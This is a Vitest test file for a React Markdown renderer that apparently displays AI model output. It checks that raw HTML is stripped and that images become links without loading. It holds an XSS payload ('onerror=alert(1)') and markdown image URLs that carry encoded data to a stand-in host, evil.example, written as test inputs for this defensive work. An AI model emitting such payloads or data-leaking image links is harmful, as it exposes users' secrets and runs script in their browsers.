import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import Markdown, { textOf } from "./Markdown";

describe("Markdown", () => {
  it("renders a fenced code block with a copy button", () => {
    const html = renderToStaticMarkup(
      <Markdown text={"Try this:\n\n```sh\nkubectl get pods -n shop\n```\n"} />,
    );
    expect(html).toMatch(
      /<div class="code-block"><pre><code class="language-sh">kubectl get pods -n shop\n?<\/code><\/pre>/,
    );
    expect(html).toContain('aria-label="Copy code"');
    expect(html).not.toContain("```");
  });

  it("renders inline code, lists and tables, and no raw HTML", () => {
    const html = renderToStaticMarkup(
      <Markdown
        text={
          "Running `kubectl scale`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<img src=x onerror=alert(1)>"
        }
      />,
    );
    expect(html).toContain("<code>kubectl scale</code>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<table>");
    expect(html).not.toContain("<img");
  });

  it("shows an image of model text as its link and never loads it (no request to another host)", () => {
    const html = renderToStaticMarkup(
      <Markdown
        text={
          "Done. ![status](https://evil.example/p.png?d=c2VjcmV0) and ![](//cdn.example/x.gif)\n\n" +
          "[![badge][b]](https://ok.example)\n\n[b]: http://evil.example/b.svg?k=v\n"
        }
      />,
    );
    expect(html).not.toContain("<img");
    expect(html).toContain(
      'href="https://evil.example/p.png?d=c2VjcmV0" target="_blank" rel="noopener noreferrer"',
    );
    expect(html).toContain("image: status (https://evil.example/p.png?d=c2VjcmV0)");
    expect(html).toContain("image: //cdn.example/x.gif");
    expect(html).toContain("image: badge (http://evil.example/b.svg?k=v)");
  });

  it("textOf reads a code block's source out of rendered children", () => {
    expect(textOf(["a", 1, null, <b key="b">c</b>])).toBe("a1c");
  });
});
